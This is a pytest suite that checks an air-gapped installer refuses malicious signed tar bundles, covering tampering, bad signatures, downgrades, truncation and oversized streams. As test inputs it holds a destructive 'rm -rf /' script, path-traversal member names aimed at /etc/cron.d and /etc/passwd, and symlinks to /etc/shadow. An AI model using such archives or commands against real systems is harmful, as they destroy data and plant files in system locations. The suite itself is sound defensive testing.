"""The attacks the installer must refuse (DESIGN.md, "Attacks the installer must refuse").

Every test starts from a host that trusts the simulator's root and has a good ``demo 1.0.0``
active, takes a valid ``demo 2.0.0`` bundle, changes ONE thing (re-signing where the attack
needs valid signatures) and then asserts, through the real ``Appliance`` API:

- the EXACT exception class (not a subclass) and a message substring, for ``verify`` and for
  ``install`` alike (``verify`` is skipped only for host policy, which it does not judge);
- that the host is unchanged: the ``current`` link, the list of slots, the bytes and mode of
  every slot file, the host state and the trusted root; and that ``staging/`` is empty;
- that the refusal was appended to the audit log (outcome ``refused``) and the chain holds.

:func:`refuse` runs every bundle both ways the installer reads one: from a file (the kernel
copies the payload into staging, ``CopyingSink``) and from a pipe (``-``: read, hashed and
written by a thread, ``StagingSink``); both must refuse with the same error.

Step numbers (V1-V9, I1-I10) refer to docs/bundle-format.md.
"""

from __future__ import annotations

import hashlib
import sys
from collections.abc import Callable
from dataclasses import dataclass, replace
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from simulator import (
    END_MARKER,
    GNU_MAGIC,
    TEN_GIB,
    BundleSimulator,
    GuardedStream,
    Host,
    Member,
    PipeSource,
    base256,
    from_pipe,
    gnu_longname_member,
    header_offsets,
    make_keys,
    octal_size,
    pax_member,
    set_checksum,
    ustar_header,
)

from appliance.installer import InstallOptions
from builder.pack import write_bundle
from signing.bundle import Limits, open_bundle, read_head
from signing.canonical import encode_canonical, format_time
from signing.errors import (
    AirgapError,
    ExpiredError,
    FormatError,
    PayloadError,
    PolicyError,
    RotationError,
    SignatureError,
    UnsignedError,
)
from signing.keys import SigningKey
from signing.manifest import BundleManifest, Entry
from signing.tarstream import BLOCK, padded
from signing.threshold import short_keyid

V2 = "2.0.0"
MODEL = "payload/model/tiny.gguf"  # member 3
RECIPE = "payload/recipe.toml"  # member 4, the last one
LIMITS = Limits()


# -- harness ----------------------------------------------------------------------------------


@dataclass
class Good:
    """A valid demo 2.0.0 bundle, in pieces, for one attack to change."""

    sim: BundleSimulator
    manifest: BundleManifest
    payload: dict[str, bytes]
    members: list[Member]

    @property
    def data(self) -> bytes:
        return self.sim.bundle_bytes(self.manifest, self.payload, members=self.members)

    @property
    def manifest_bytes(self) -> bytes:
        return self.manifest.to_bytes()

    def with_members(self, members: list[Member], **kwargs: Any) -> bytes:
        return self.sim.bundle_bytes(self.manifest, self.payload, members=members, **kwargs)

    def resigned(self, manifest_bytes: bytes, signers: list[SigningKey] | None = None) -> bytes:
        """This bundle with other manifest bytes, signed by ``signers`` (default: threshold)."""
        members = self.sim.members(
            self.manifest, self.payload, signers, manifest_bytes=manifest_bytes
        )
        return self.with_members(members)


@pytest.fixture
def good(installed_host: Host) -> Good:
    sim = installed_host.sim
    manifest, payload = sim.manifest(version=V2)
    return Good(sim, manifest, payload, sim.members(manifest, payload))


def _normal(text: str) -> str:
    return " ".join(text.split())


def assert_refused(
    host: Host,
    exc: type[AirgapError],
    match: str,
    run: Callable[[], object],
    *,
    event: str = "install",
) -> tuple[AirgapError, dict[str, Any]]:
    """``run`` raises exactly ``exc`` naming ``match``, changes nothing, and is audited."""
    before = host.snapshot()
    count = len(host.audit_records())
    with pytest.raises(exc) as info:
        run()
    error = info.value
    assert type(error) is exc, f"{type(error).__name__}: {error}"
    assert match in str(error), f"{match!r} not in {str(error)!r}"
    assert host.snapshot() == before, "a refused operation changed the host"
    assert host.staging_entries() == [], "a refused install left something in staging/"
    records = host.audit_records()
    assert len(records) == count + 1, "no audit record for the refusal"
    record = records[-1]
    assert record["event"] == event
    assert record["outcome"] == "refused"
    assert _normal(match) in record["error"]
    assert host.appliance.audit.check() == count + 1
    return error, record


def refuse(
    host: Host,
    data: bytes,
    exc: type[AirgapError],
    match: str,
    *,
    options: InstallOptions | None = None,
    verify: bool = True,
) -> dict[str, Any]:
    """``verify`` and ``install`` of ``data`` both refuse it; returns the install's record."""
    options = options or InstallOptions(skip_health_check=True)
    path = str(host.write(data))
    if verify:
        assert_refused(
            host,
            exc,
            match,
            lambda: host.appliance.verify(path, assume_time=options.assume_time),
            event="verify",
        )
    _, record = assert_refused(host, exc, match, lambda: host.appliance.install(path, options))
    # The same bytes through a pipe take the streaming path (no kernel copy): same refusal.
    if verify:
        assert_refused(
            host,
            exc,
            match,
            lambda: from_pipe(data, lambda: host.appliance.verify("-", **_time(options))),
            event="verify",
        )
    assert_refused(
        host, exc, match, lambda: from_pipe(data, lambda: host.appliance.install("-", options))
    )
    return record


def _time(options: InstallOptions) -> dict[str, Any]:
    return {"assume_time": options.assume_time}


def refuse_stream(
    host: Host,
    monkeypatch: pytest.MonkeyPatch,
    make: Callable[[], GuardedStream],
    exc: type[AirgapError],
    match: str,
) -> None:
    """Like :func:`refuse`, with the bundle read from standard input (``-``, a data diode)
    through a real pipe that carries more than the reader may take: it must stop within
    the stream's budget."""
    runs: dict[str, Callable[[], object]] = {
        "verify": lambda: host.appliance.verify("-"),
        "install": lambda: host.appliance.install("-", InstallOptions(skip_health_check=True)),
    }
    for event, run in runs.items():
        with PipeSource(make()) as source:
            monkeypatch.setattr(sys, "stdin", source.stdin())
            assert_refused(host, exc, match, run, event=event)
            consumed = source.consumed()
        assert 0 < consumed <= source.budget, f"{event} read {consumed} bytes"


def assert_unverified(record: dict[str, Any], manifest_bytes: bytes) -> None:
    """Name and version are recorded only once the signatures were verified."""
    assert "name" not in record
    assert "version" not in record
    assert record["manifest_sha256"] == hashlib.sha256(manifest_bytes).hexdigest()


def flip(data: bytes, offset: int) -> bytes:
    return data[:offset] + bytes([data[offset] ^ 0x01]) + data[offset + 1 :]


def offset_of(data: bytes, index: int) -> int:
    """Offset of member ``index``'s header in a well-formed bundle."""
    return header_offsets(data)[index]


# -- controls: the harness can tell good from bad ---------------------------------------------


def test_simulator_matches_the_builder(tmp_path: Path, good: Good) -> None:
    """An unmodified simulated bundle is byte-identical to builder.pack.write_bundle's."""
    sources = {}
    for index, (path, content) in enumerate(good.payload.items()):
        source = tmp_path / f"source-{index}"
        source.write_bytes(content)
        sources[path] = source
    out = tmp_path / "built.tar"
    write_bundle(out, good.manifest, sources, good.sim.sign(good.manifest_bytes))
    assert out.read_bytes() == good.data


def test_raw_header_helper_matches_the_builder() -> None:
    from builder.pack import tar_header

    for name, size in [("format", 26), (MODEL, 780), ("payload/" + "d/" * 60 + "f", 0)]:
        if len(name) <= 100:
            assert ustar_header(name, size) == tar_header(name, size)
    long = "payload/" + "d/" * 60 + "f"
    parts = long.split("/")
    cut = next(i for i in range(1, len(parts)) if len("/".join(parts[i:])) <= 100)
    prefix, name = "/".join(parts[:cut]), "/".join(parts[cut:])
    assert ustar_header(name, 5, prefix=prefix) == tar_header(long, 5)


def test_good_bundle_installs(installed_host: Host, good: Good) -> None:
    slot = installed_host.install(good.data)
    assert slot.version == V2
    assert installed_host.active_payload() == good.payload
    record = installed_host.last_audit()
    assert (record["event"], record["outcome"], record["version"]) == ("install", "ok", V2)
    assert "allow_downgrade" not in record


# -- tampering --------------------------------------------------------------------------------


@pytest.mark.parametrize(("member", "where"), [(3, 0), (3, -1), (4, 0), (4, -1)])
def test_tampered_payload_byte(installed_host: Host, good: Good, member: int, where: int) -> None:
    data = good.data
    start = offset_of(data, member) + BLOCK
    size = good.manifest.entries[member - 3].size
    offset = start + (where % size)
    name = MODEL if member == 3 else RECIPE
    refuse(installed_host, flip(data, offset), PayloadError, f"member {name!r} sha256 mismatch")


def test_tampered_manifest_value(installed_host: Host, good: Good) -> None:
    """A changed value, still canonical JSON, under the original signatures (V4)."""
    raw = good.manifest_bytes
    tampered = raw.replace(b'"context_size":256', b'"context_size":999')
    assert tampered != raw
    block = good.sim.signature_block(raw)
    members = good.sim.members(
        good.manifest, good.payload, manifest_bytes=tampered, signature_block=block
    )
    record = refuse(
        installed_host,
        good.with_members(members),
        SignatureError,
        "bundle manifest: 0 of 2 required signatures from role 'bundle'; invalid signature",
    )
    assert_unverified(record, tampered)


def test_tampered_manifest_hash_with_matching_payload(installed_host: Host, good: Good) -> None:
    """The attacker swaps a file and fixes its sha256 in the manifest: signatures break."""
    evil = b"#!/bin/sh\nrm -rf /\n".ljust(len(good.payload["recipe.toml"]), b"#")
    manifest = replace(
        good.manifest,
        entries=(
            good.manifest.entries[0],
            replace(good.manifest.entries[1], sha256=hashlib.sha256(evil).hexdigest()),
        ),
    )
    block = good.sim.signature_block(good.manifest_bytes)
    members = good.sim.members(
        manifest, {**good.payload, "recipe.toml": evil}, signature_block=block
    )
    refuse(installed_host, good.with_members(members), SignatureError, "0 of 2 required")


def test_non_canonical_manifest_signed(installed_host: Host, good: Good) -> None:
    """Whitespace added, and the signers signed exactly those bytes: V4 passes, V5 refuses."""
    pretty = good.manifest_bytes.replace(b',"', b', "')
    record = refuse(
        installed_host, good.resigned(pretty), FormatError, "manifest: not canonical JSON"
    )
    assert_unverified(record, pretty)


def test_non_canonical_manifest_under_original_signatures(installed_host: Host, good: Good) -> None:
    pretty = good.manifest_bytes.replace(b',"', b', "')
    members = good.sim.members(
        good.manifest,
        good.payload,
        manifest_bytes=pretty,
        signature_block=good.sim.signature_block(good.manifest_bytes),
    )
    refuse(installed_host, good.with_members(members), SignatureError, "invalid signature")


def test_unsigned(installed_host: Host, good: Good) -> None:
    record = refuse(
        installed_host,
        good.resigned(good.manifest_bytes, []),
        UnsignedError,
        "bundle manifest carries no signatures",
    )
    assert_unverified(record, good.manifest_bytes)


def test_signature_block_of_spaces(installed_host: Host, good: Good) -> None:
    members = good.sim.members(
        good.manifest, good.payload, signature_block=b" " * good.sim.signature_space
    )
    refuse(installed_host, good.with_members(members), FormatError, "signatures: not JSON")


def test_below_threshold(installed_host: Host, good: Good) -> None:
    one = good.sim.bundle_keys[:1]
    refuse(
        installed_host,
        good.resigned(good.manifest_bytes, one),
        SignatureError,
        "bundle manifest: 1 of 2 required signatures from role 'bundle'",
    )


def test_same_key_counted_twice(installed_host: Host, good: Good) -> None:
    key = good.sim.bundle_keys[0]
    record = refuse(
        installed_host,
        good.resigned(good.manifest_bytes, [key, key]),
        SignatureError,
        f"1 of 2 required signatures from role 'bundle'; keyid {short_keyid(key.keyid)} "
        "appears 2 times, counted once",
    )
    assert_unverified(record, good.manifest_bytes)


def test_unknown_key(installed_host: Host, good: Good) -> None:
    stranger = SigningKey.generate()
    signers = [good.sim.bundle_keys[0], stranger]
    refuse(
        installed_host,
        good.resigned(good.manifest_bytes, signers),
        SignatureError,
        f"1 of 2 required signatures from role 'bundle'; unknown keyid "
        f"{short_keyid(stranger.keyid)}",
    )


def test_root_key_cannot_sign_bundles(installed_host: Host, good: Good) -> None:
    """A key of the root role is in the root, but not in the bundle role: it does not count."""
    root_key = good.sim.root_keys[0]
    signers = [good.sim.bundle_keys[0], root_key]
    refuse(
        installed_host,
        good.resigned(good.manifest_bytes, signers),
        SignatureError,
        f"unknown keyid {short_keyid(root_key.keyid)}",
    )


def test_expired_bundle(installed_host: Host, good: Good) -> None:
    sim = good.sim
    expires = sim.now - timedelta(days=1)
    manifest, payload = sim.manifest(
        version=V2, created=sim.now - timedelta(days=30), expires=expires
    )
    refuse(
        installed_host,
        sim.bundle_bytes(manifest, payload),
        ExpiredError,
        f"bundle demo 2.0.0 expired at {format_time(expires)}",
    )


def test_expired_bundle_with_clock_set_back(installed_host: Host, good: Good) -> None:
    """--assume-time before the expiry cannot revive it: time is floored to the newest
    signing time seen (v1's created), which is after the expiry."""
    sim = good.sim
    expires = sim.now - timedelta(hours=2)
    manifest, payload = sim.manifest(
        version=V2, created=sim.now - timedelta(days=30), expires=expires
    )
    assumed = sim.now - timedelta(days=10)
    record = refuse(
        installed_host,
        sim.bundle_bytes(manifest, payload),
        ExpiredError,
        f"bundle demo 2.0.0 expired at {format_time(expires)}",
        options=InstallOptions(skip_health_check=True, assume_time=assumed),
    )
    assert record["assumed_time"] == format_time(assumed)
    assert "clock_behind" in record


def test_expired_trusted_root(installed_host: Host, good: Good) -> None:
    later = good.sim.root_expires + timedelta(days=1)
    refuse(
        installed_host,
        good.data,
        ExpiredError,
        f"trusted root version 1 expired at {format_time(good.sim.root_expires)}",
        options=InstallOptions(skip_health_check=True, assume_time=later),
    )


# -- host policy: downgrade and replay (I3) ---------------------------------------------------


def test_downgrade(installed_host: Host, good: Good) -> None:
    installed_host.install(good.data)
    refuse(
        installed_host,
        good.sim.bundle("1.0.0"),
        PolicyError,
        "bundle demo 1.0.0 is not newer than installed version 2.0.0 (downgrade or replay)",
        verify=False,
    )


def test_replay_of_the_same_bundle(installed_host: Host, good: Good) -> None:
    installed_host.install(good.data)
    refuse(
        installed_host,
        good.data,
        PolicyError,
        "bundle demo 2.0.0 is not newer than installed version 2.0.0",
        verify=False,
    )


def test_replay_of_an_equal_version_spelled_otherwise(installed_host: Host) -> None:
    """PEP 440: 1.0 == 1.0.0, so a re-signed "1.0" is a replay of the installed 1.0.0."""
    refuse(
        installed_host,
        installed_host.sim.bundle("1.0"),
        PolicyError,
        "bundle demo 1.0 is not newer than installed version 1.0.0",
        verify=False,
    )


def test_allow_downgrade_is_accepted_and_audited(installed_host: Host, good: Good) -> None:
    installed_host.install(good.data)
    slot = installed_host.install(
        installed_host.sim.bundle("1.0.0"),
        InstallOptions(allow_downgrade=True, skip_health_check=True),
    )
    assert (slot.version, slot.allow_downgrade) == ("1.0.0", True)
    assert installed_host.snapshot()["current"] == f"slots/{slot.id}"
    record = installed_host.last_audit()
    assert (record["event"], record["outcome"]) == ("install", "ok")
    assert record["allow_downgrade"] is True
    assert record["version"] == "1.0.0"


def test_allow_downgrade_does_not_lower_the_highest_version(
    installed_host: Host, good: Good
) -> None:
    """I3: "the highest ever installed": a forced downgrade does not reopen older versions."""
    installed_host.install(good.data)
    installed_host.install(
        installed_host.sim.bundle("1.0.0"),
        InstallOptions(allow_downgrade=True, skip_health_check=True),
    )
    refuse(
        installed_host,
        installed_host.sim.bundle("1.5.0"),
        PolicyError,
        "bundle demo 1.5.0 is not newer than installed version 2.0.0",
        verify=False,
    )


# -- mix and match ----------------------------------------------------------------------------


def _other_payload(good: Good, *, same_sizes: bool) -> dict[str, bytes]:
    other = {}
    for path, content in good.payload.items():
        size = len(content) if same_sizes else len(content) + 7
        other[path] = (b"B" * size)[:size]
    return other


def test_mix_and_match_payload_of_another_bundle(installed_host: Host, good: Good) -> None:
    """Head (manifest + signatures) of bundle A, payload of bundle B (same sizes)."""
    manifest_b, payload_b = good.sim.manifest(
        version=V2, files=_other_payload(good, same_sizes=True)
    )
    members_b = good.sim.members(manifest_b, payload_b)
    refuse(
        installed_host,
        good.with_members(good.members[:3] + members_b[3:]),
        PayloadError,
        f"member {MODEL!r} sha256 mismatch",
    )


def test_mix_and_match_payload_of_other_sizes(installed_host: Host, good: Good) -> None:
    manifest_b, payload_b = good.sim.manifest(
        version=V2, files=_other_payload(good, same_sizes=False)
    )
    members_b = good.sim.members(manifest_b, payload_b)
    size = good.manifest.entries[0].size
    refuse(
        installed_host,
        good.with_members(good.members[:3] + members_b[3:]),
        PayloadError,
        f"member {MODEL!r} declares {size + 7} bytes, manifest says {size}",
    )


def test_mix_and_match_signatures_of_another_manifest(installed_host: Host, good: Good) -> None:
    """Valid signatures by the right keys, but over the v1 manifest: none counts."""
    v1, _ = good.sim.manifest(version="1.0.0")
    members = good.sim.members(
        good.manifest, good.payload, signature_block=good.sim.signature_block(v1.to_bytes())
    )
    refuse(
        installed_host,
        good.with_members(members),
        SignatureError,
        "0 of 2 required signatures from role 'bundle'; invalid signature by keyid",
    )


# -- member list against the manifest (V6, V9) ------------------------------------------------


def test_member_not_in_manifest_at_the_end(installed_host: Host, good: Good) -> None:
    extra = Member("payload/zz-backdoor.py", b"import os\n")
    refuse(
        installed_host,
        good.with_members([*good.members, extra]),
        PayloadError,
        "member 'payload/zz-backdoor.py' is not in the manifest",
    )


def test_non_payload_member_at_the_end(installed_host: Host, good: Good) -> None:
    extra = Member("evil.sh", b"#!/bin/sh\n")
    refuse(
        installed_host,
        good.with_members([*good.members, extra]),
        PayloadError,
        "member 'evil.sh' is not in the manifest",
    )


def test_member_not_in_manifest_in_the_middle(installed_host: Host, good: Good) -> None:
    extra = Member("payload/model/extra.bin", b"x" * 10)
    members = [*good.members[:4], extra, *good.members[4:]]
    refuse(
        installed_host,
        good.with_members(members),
        PayloadError,
        "member 'payload/model/extra.bin' is not in the manifest",
    )


def test_manifest_entry_missing_last(installed_host: Host, good: Good) -> None:
    refuse(
        installed_host,
        good.with_members(good.members[:-1]),
        PayloadError,
        "manifest entry 'recipe.toml' is missing from the payload",
    )


def test_manifest_entry_missing_first(installed_host: Host, good: Good) -> None:
    members = [*good.members[:3], *good.members[4:]]
    refuse(
        installed_host,
        good.with_members(members),
        PayloadError,
        f"member {RECIPE!r} out of order (expected {MODEL!r}; entry 0 missing",
    )


def test_members_out_of_order(installed_host: Host, good: Good) -> None:
    members = [*good.members[:3], good.members[4], good.members[3]]
    refuse(
        installed_host,
        good.with_members(members),
        PayloadError,
        f"member {RECIPE!r} out of order (expected {MODEL!r}",
    )


def test_head_members_out_of_order(installed_host: Host, good: Good) -> None:
    members = [good.members[1], good.members[0], *good.members[2:]]
    refuse(
        installed_host,
        good.with_members(members),
        FormatError,
        "expected member 'format', found 'manifest.json'",
    )


@pytest.mark.parametrize("at", ["middle", "end"])
def test_duplicate_member_names(installed_host: Host, good: Good, at: str) -> None:
    if at == "middle":
        members = [*good.members[:4], good.members[3], good.members[4]]
        name = MODEL
    else:
        members = [*good.members, good.members[4]]
        name = RECIPE
    refuse(installed_host, good.with_members(members), PayloadError, f"duplicate member {name!r}")


def test_duplicate_member_with_other_content(installed_host: Host, good: Good) -> None:
    """The second copy would overwrite the verified one on a naive extractor."""
    evil = Member(RECIPE, b"evil = true\n")
    refuse(
        installed_host,
        good.with_members([*good.members, evil]),
        PayloadError,
        f"duplicate member {RECIPE!r}",
    )


# -- unsafe names ------------------------------------------------------------------------------

TRAVERSALS = [
    ("payload/../x", "bundle member: path 'payload/../x' has an empty, '.' or '..' component"),
    ("/etc/x", "bundle member: absolute path '/etc/x'"),
    ("payload/model/../../../../etc/passwd", "'..' component"),
    ("../../etc/cron.d/evil", "'..' component"),
    ("payload//x", "has an empty, '.' or '..' component"),
    ("payload/./x", "has an empty, '.' or '..' component"),
    ("payload\\..\\x", "has a backslash or control character"),
    ("payload/x\n", "has a backslash or control character"),
]


@pytest.mark.parametrize(("name", "match"), TRAVERSALS)
@pytest.mark.parametrize("at", ["instead", "after"])
def test_path_traversal(installed_host: Host, good: Good, name: str, match: str, at: str) -> None:
    """An unsafe member name in place of the first payload member, or after the last one."""
    data = b"pwned\n"
    evil = Member(name, data, header=ustar_header(name, len(data)))
    if at == "instead":
        members = [*good.members[:3], evil, *good.members[4:]]
    else:
        members = [*good.members, evil]
    refuse(installed_host, good.with_members(members), FormatError, match)


@pytest.mark.parametrize(
    ("prefix", "name", "match"),
    [
        ("payload/..", "etc/passwd", "path 'payload/../etc/passwd' has an empty, '.' or '..'"),
        ("payload/model/../..", "x", "'..' component"),
        ("/etc", "passwd", "bundle member: absolute path '/etc/passwd'"),
        ("payload", "../x", "path 'payload/../x'"),
    ],
)
def test_path_traversal_through_the_prefix_field(
    installed_host: Host, good: Good, prefix: str, name: str, match: str
) -> None:
    data = b"pwned\n"
    evil = Member(f"{prefix}/{name}", data, header=ustar_header(name, len(data), prefix=prefix))
    members = [*good.members[:3], evil, *good.members[4:]]
    refuse(installed_host, good.with_members(members), FormatError, match)


def test_prefix_field_joined_safely_is_accepted(installed_host: Host, good: Good) -> None:
    """Control: the same prefix/name split with a safe path is a legitimate member."""
    content = good.payload["model/tiny.gguf"]
    member = Member(
        MODEL, content, header=ustar_header("tiny.gguf", len(content), prefix="payload/model")
    )
    members = [*good.members[:3], member, *good.members[4:]]
    assert installed_host.install(good.with_members(members)).version == V2


@pytest.mark.parametrize("at", [0, 3])
def test_pax_header_overriding_the_path(installed_host: Host, good: Good, at: int) -> None:
    """tarfile would apply path=... from the pax header; the reader refuses the header."""
    original = good.members[at]
    evil = pax_member(original.name, original.data, {"path": "../../../../etc/cron.d/evil"})
    members = [*good.members[:at], evil, *good.members[at + 1 :]]
    refuse(
        installed_host,
        good.with_members(members),
        FormatError,
        "member '././@PaxHeader' is a pax extended header; only regular files allowed",
    )


def test_pax_global_header(installed_host: Host, good: Good) -> None:
    records = b"27 path=../../etc/evil.conf\n"
    glob = Member(
        "pax_global_header",
        records,
        header=ustar_header("pax_global_header", len(records), typeflag=b"g"),
    )
    members = [*good.members[:3], glob, *good.members[3:]]
    refuse(
        installed_host,
        good.with_members(members),
        FormatError,
        "member 'pax_global_header' is a pax global header; only regular files allowed",
    )


def test_gnu_long_name_as_gnu_tar_writes_it(installed_host: Host, good: Good) -> None:
    """GNU tar's 'L' header carries the GNU magic: refused by its type, named as such."""
    long = "payload/" + "a/" * 60 + "../../../../etc/x"
    evil = gnu_longname_member(long, b"pwned\n")
    members = [*good.members[:3], evil, *good.members[4:]]
    refuse(
        installed_host,
        good.with_members(members),
        FormatError,
        "bundle: member '././@LongLink' is a GNU long name; only regular files allowed",
    )


@pytest.mark.parametrize(
    ("typeflag", "kind"), [(b"L", "GNU long name"), (b"K", "GNU long link name")]
)
def test_gnu_long_name_with_ustar_magic(
    installed_host: Host, good: Good, typeflag: bytes, kind: str
) -> None:
    long = b"../../../../etc/cron.d/evil\x00"
    header = ustar_header("././@LongLink", len(long), typeflag=typeflag)
    evil = Member("././@LongLink", long, header=header)
    members = [*good.members[:3], evil, *good.members[3:]]
    refuse(
        installed_host,
        good.with_members(members),
        FormatError,
        f"member '././@LongLink' is a {kind}; only regular files allowed",
    )


def test_non_utf8_member_name(installed_host: Host, good: Good) -> None:
    evil = Member("?", b"x", header=ustar_header(b"payload/\xff\xfe", 1))
    members = [*good.members[:3], evil, *good.members[4:]]
    refuse(
        installed_host,
        good.with_members(members),
        FormatError,
        "bundle: member 3 name is not UTF-8",
    )


# -- members that are not regular files ---------------------------------------------------------

NON_REGULAR = [
    (b"1", "hard link", "/etc/shadow"),
    (b"2", "symbolic link", "/etc/shadow"),
    (b"3", "character device", ""),
    (b"4", "block device", ""),
    (b"5", "directory", ""),
    (b"6", "fifo", ""),
    (b"7", "contiguous file", ""),
    (b"S", "GNU sparse file", ""),
    (b"V", "GNU volume label", ""),
    (b"Z", "type b'Z'", ""),
]


@pytest.mark.parametrize(("typeflag", "kind", "linkname"), NON_REGULAR)
def test_non_regular_member(
    installed_host: Host, good: Good, typeflag: bytes, kind: str, linkname: str
) -> None:
    """Under the very name the manifest expects, a link/device/directory/fifo is refused."""
    header = ustar_header(
        MODEL,
        0,
        typeflag=typeflag,
        linkname=linkname,
        devmajor=8 if typeflag in (b"3", b"4") else None,
    )
    evil = Member(MODEL, b"", header=header)
    members = [*good.members[:3], evil, *good.members[4:]]
    refuse(
        installed_host,
        good.with_members(members),
        FormatError,
        f"member {MODEL!r} is a {kind}; only regular files allowed",
    )


def test_symlink_in_place_of_the_manifest(installed_host: Host, good: Good) -> None:
    header = ustar_header("manifest.json", 0, typeflag=b"2", linkname="/etc/passwd")
    members = [good.members[0], Member("manifest.json", b"", header=header), *good.members[2:]]
    refuse(
        installed_host,
        good.with_members(members),
        FormatError,
        "member 'manifest.json' is a symbolic link; only regular files allowed",
    )


def test_regular_file_with_a_link_name(installed_host: Host, good: Good) -> None:
    content = good.payload["model/tiny.gguf"]
    header = ustar_header(MODEL, len(content), linkname="/etc/shadow")
    members = [*good.members[:3], Member(MODEL, content, header=header), *good.members[4:]]
    refuse(
        installed_host, good.with_members(members), FormatError, f"member {MODEL!r} has a link name"
    )


# -- sizes that lie ----------------------------------------------------------------------------


@pytest.mark.parametrize("delta", [-770, -1, 1, 512])
def test_declared_size_differs_from_the_manifest(
    installed_host: Host, good: Good, delta: int
) -> None:
    content = good.payload["model/tiny.gguf"]
    claimed = len(content) + delta
    data = (content + bytes(max(delta, 0)))[:claimed]
    members = [*good.members[:3], Member(MODEL, data), *good.members[4:]]
    refuse(
        installed_host,
        good.with_members(members),
        PayloadError,
        f"member {MODEL!r} declares {claimed} bytes, manifest says {len(content)}",
    )


def test_declared_size_beyond_the_end_of_the_file(installed_host: Host, good: Good) -> None:
    """The last member's header is honest, but the file ends halfway through its data."""
    data = good.with_members(good.members, end=b"")
    size = good.manifest.entries[-1].size
    cut = offset_of(data, 4) + BLOCK + size // 2
    refuse(
        installed_host,
        data[:cut],
        FormatError,
        f"bundle: truncated in member {RECIPE!r} (at byte {cut})",
    )


# -- truncated tar -----------------------------------------------------------------------------

CUTS: list[tuple[str, Callable[[list[int], int, int], int], str]] = [
    ("inside the first header", lambda o, n, s: 100, "header of member 0"),
    ("inside the manifest", lambda o, n, s: o[1] + BLOCK + 10, "member 'manifest.json'"),
    ("inside the signatures", lambda o, n, s: o[2] + BLOCK + 100, "member 'signatures.json'"),
    ("at the first payload header", lambda o, n, s: o[3], "header of member 3"),
    ("inside a payload member", lambda o, n, s: o[3] + BLOCK + 100, f"member {MODEL!r}"),
    ("inside a padding", lambda o, n, s: o[3] + BLOCK + s + 1, f"padding of member {MODEL!r}"),
    ("before the end marker", lambda o, n, s: n - 2 * BLOCK, "header of member 5"),
    ("inside the end marker", lambda o, n, s: n - 2 * BLOCK + 100, "header of member 5"),
    ("inside the second end block", lambda o, n, s: n - BLOCK, "end-of-archive marker"),
    ("one byte short", lambda o, n, s: n - 1, "end-of-archive marker"),
]


@pytest.mark.parametrize(("case", "cut", "where"), CUTS, ids=[c[0] for c in CUTS])
def test_truncated_tar(
    installed_host: Host,
    good: Good,
    case: str,
    cut: Callable[[list[int], int, int], int],
    where: str,
) -> None:
    data = good.data
    size = good.manifest.entries[0].size
    assert size % BLOCK, "the model member must have padding for this test"
    offset = cut(header_offsets(data), len(data), size)
    assert 0 < offset < len(data), case
    refuse(installed_host, data[:offset], FormatError, f"bundle: truncated in {where}")


# -- endless data ------------------------------------------------------------------------------


def _head_members_with_size(good: Good, index: int, size_field: bytes) -> list[Member]:
    """The head with member ``index``'s header claiming another size (its data unchanged)."""
    members = list(good.members)
    member = members[index]
    members[index] = replace(
        member, header=ustar_header(member.name, size_field=size_field), padding=b""
    )
    return members


@pytest.mark.parametrize(
    ("index", "size", "limit"),
    [
        (0, 27, 26),
        (0, TEN_GIB, 26),
        (1, TEN_GIB, LIMITS.max_manifest_bytes),
        (1, LIMITS.max_manifest_bytes + 1, LIMITS.max_manifest_bytes),
        (2, TEN_GIB, LIMITS.max_signature_bytes),
        (2, LIMITS.max_signature_bytes + 1, LIMITS.max_signature_bytes),
    ],
)
def test_huge_head_member_refused_before_reading(
    installed_host: Host,
    good: Good,
    monkeypatch: pytest.MonkeyPatch,
    *,
    index: int,
    size: int,
    limit: int,
) -> None:
    """V1-V3: the header's size is checked against the limit before one byte of data is
    read: the stream fails the test if the reader goes past that header."""
    name = good.members[index].name
    prefix = good.with_members(good.members[:index], end=b"")
    header = ustar_header(name, size_field=octal_size(size))
    budget = len(prefix) + BLOCK
    refuse_stream(
        installed_host,
        monkeypatch,
        lambda: GuardedStream(prefix + header, budget=budget, filler=b"A"),
        FormatError,
        f"bundle: member {name!r} is {size} bytes, limit {limit}",
    )


def test_huge_payload_member_refused_before_reading(
    installed_host: Host, good: Good, monkeypatch: pytest.MonkeyPatch
) -> None:
    prefix = good.with_members(good.members[:3], end=b"")
    header = ustar_header(MODEL, size_field=octal_size(TEN_GIB))
    size = good.manifest.entries[0].size
    refuse_stream(
        installed_host,
        monkeypatch,
        lambda: GuardedStream(prefix + header, budget=len(prefix) + BLOCK, filler=b"A"),
        PayloadError,
        f"member {MODEL!r} declares {TEN_GIB} bytes, manifest says {size}",
    )


def test_pure_core_reads_no_byte_of_a_huge_manifest(good: Good) -> None:
    """The same bound in the pure core: read_head stops right after the manifest's header."""
    prefix = good.with_members(good.members[:1], end=b"")
    header = ustar_header("manifest.json", size_field=octal_size(TEN_GIB))
    stream = GuardedStream(prefix + header, budget=len(prefix) + BLOCK, filler=b"{")
    with pytest.raises(FormatError, match=f"is {TEN_GIB} bytes, limit 16777216"):
        read_head(open_bundle(stream, LIMITS), LIMITS)
    assert stream.consumed == 3 * BLOCK


def test_endless_zeros_after_the_end_marker(
    installed_host: Host, good: Good, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Zero padding after the end marker is bounded (1 MiB), so an endless stream of zeros
    ends in a refusal after a bounded read, not in a hang."""
    data = good.data
    budget = len(data) + LIMITS.max_trailing_bytes + 64 * 1024
    refuse_stream(
        installed_host,
        monkeypatch,
        lambda: GuardedStream(data, budget=budget, filler=b"\x00"),
        FormatError,
        "bundle: data after the end-of-archive marker",
    )


def test_endless_data_after_the_end_marker(
    installed_host: Host, good: Good, monkeypatch: pytest.MonkeyPatch
) -> None:
    data = good.data
    refuse_stream(
        installed_host,
        monkeypatch,
        lambda: GuardedStream(data, budget=len(data) + 64 * 1024, filler=b"junk"),
        FormatError,
        "bundle: data after the end-of-archive marker",
    )


def test_trailing_zeros_within_the_limit_are_accepted(installed_host: Host, good: Good) -> None:
    """Control: tape and disc tools pad with zeros; up to 1 MiB of them is fine."""
    data = good.with_members(good.members, trailer=bytes(LIMITS.max_trailing_bytes))
    assert installed_host.install(data).version == V2


@pytest.mark.parametrize(
    "trailer",
    [b"\x00" * 100 + b"X", b"X", bytes(LIMITS.max_trailing_bytes + 1)],
    ids=["zeros-then-data", "data", "too-many-zeros"],
)
def test_trailing_data_after_the_end_marker(
    installed_host: Host, good: Good, trailer: bytes
) -> None:
    refuse(
        installed_host,
        good.with_members(good.members, trailer=trailer),
        FormatError,
        "bundle: data after the end-of-archive marker",
    )


